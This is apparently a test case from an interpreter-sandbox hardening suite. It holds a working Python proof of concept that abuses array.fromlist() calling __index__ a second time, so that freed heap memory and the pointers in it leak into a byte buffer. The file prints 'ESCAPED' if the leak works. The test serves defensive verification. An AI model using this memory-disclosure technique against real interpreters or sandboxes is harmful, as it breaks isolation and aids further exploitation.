# id: array-fromlist-unwritten
# class: info
# expect: contained
# technique: array.fromlist() makes room and asks the item for its number a second time; the item reads the array, whose last elements nobody has written
# source: own
# verified: yes: the bytes are freed memory, pointers in it; gets through without patch 0071
import array

seen = bytearray()
numbers = None


class Index:
    def __index__(self):
        if len(numbers) > start:
            seen.extend(memoryview(numbers)[start:].tobytes())
        return 0

    __float__ = __index__


for code in "bBhHiIlLqQfd":
    for start in (0, 3, 50, 700, 5000):
        freed = [[print] * k for k in range(1, 60)] + [[len] * start]
        del freed
        numbers = array.array(code, bytes(start * array.array(code).itemsize))
        numbers.fromlist([Index()] * 40)

if any(seen):
    print("ESCAPED:array-fromlist-unwritten", bytes(seen)[:32].hex())
